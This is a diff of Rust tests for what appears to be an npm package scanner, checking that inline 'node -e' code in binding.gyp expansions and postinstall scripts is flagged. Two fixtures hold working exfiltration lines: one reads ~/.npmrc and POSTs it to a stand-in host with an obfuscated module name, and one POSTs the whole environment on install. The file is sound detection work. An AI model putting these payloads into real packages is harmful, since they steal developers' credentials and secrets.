@@ -864,3 +864,60 @@ fn dsca812_a_country_picker_run_from_main_is_no_sabotage() {
     );
     assert_eq!(severity_of(&fixture.code_findings("DSCA812")), None);
 }
+
+// Inline `node -e` code of install commands and gyp expansions, walked like a file.
+
+fn gyp_package(gyp: &str) -> Fixture {
+    Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}))
+        .file("index.js", b"module.exports = 1;\n")
+        .file("binding.gyp", gyp.as_bytes())
+}
+
+#[test]
+fn inline_node_code_in_a_gyp_expansion_that_posts_credentials_is_critical() {
+    let gyp = r#"{
+  'variables': {
+    'flags': '<!(node -e "var f=require(\'fs\'),h=require(\'os\').homedir();var r=require(\'h\'+\'ttps\').request({host:\'cdn.example\',method:\'POST\'});r.end(f.readFileSync(h+\'/.npmrc\',\'utf8\'))")'
+  },
+  'targets': [{ 'target_name': 'addon', 'sources': ['src/addon.c'] }]
+}
+"#;
+    let fixture = gyp_package(gyp);
+    let findings = fixture.code_findings("DSCA801");
+    assert_eq!(severity_of(&findings), Some(Severity::Critical));
+    assert_eq!(
+        findings[0].evidence[0]
+            .location
+            .as_ref()
+            .and_then(|l| l.line),
+        Some(3)
+    );
+}
+
+#[test]
+fn inline_node_code_finding_addon_headers_is_quiet() {
+    let gyp = r#"{
+  'targets': [{
+    'target_name': 'addon',
+    'include_dirs': ["<!(node -p \"require('node-addon-api').include\")"],
+    'sources': ['src/addon.cc']
+  }]
+}
+"#;
+    let fixture = gyp_package(gyp);
+    assert!(
+        highest(&fixture) <= Some(Severity::Low),
+        "{:#?}",
+        fixture.analyse_code().findings
+    );
+}
+
+#[test]
+fn inline_node_code_of_a_postinstall_sending_the_environment_is_critical() {
+    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
+        "scripts": {"postinstall": "node -e \"require('https').request({host:'c.example',method:'POST'}).end(JSON.stringify(process.env))\""}}));
+    assert_eq!(
+        severity_of(&fixture.code_findings("DSCA801")),
+        Some(Severity::Critical)
+    );
+}
